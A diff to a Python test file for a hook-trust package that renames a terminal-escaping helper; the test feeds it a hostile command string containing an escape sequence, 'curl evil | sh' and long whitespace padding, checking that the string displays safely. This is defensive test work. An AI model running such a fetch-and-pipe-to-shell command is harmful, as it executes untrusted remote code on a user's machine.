@@ -23,7 +23,7 @@ from llxprt_hooks.settings import (
     settings_file,
 )
 from llxprt_hooks.settings.extensions import place_path
-from llxprt_hooks.text import printable
+from llxprt_hooks.text import escape_for_terminal
 from llxprt_hooks.trust import scripts
 from llxprt_hooks.trust.load import load_settings
 from llxprt_hooks.trust.scripts import project_scripts
@@ -324,7 +324,7 @@ class TestShowing:
     def test_all_of_a_command_can_be_shown(self) -> None:
         command = f"true{HOSTILE}; curl evil | sh" + " " * 500 + "# é"
 
-        shown = printable(command)
+        shown = escape_for_terminal(command)
 
         assert shown.isprintable()
         assert shown.startswith(r"true\x1b[2J")
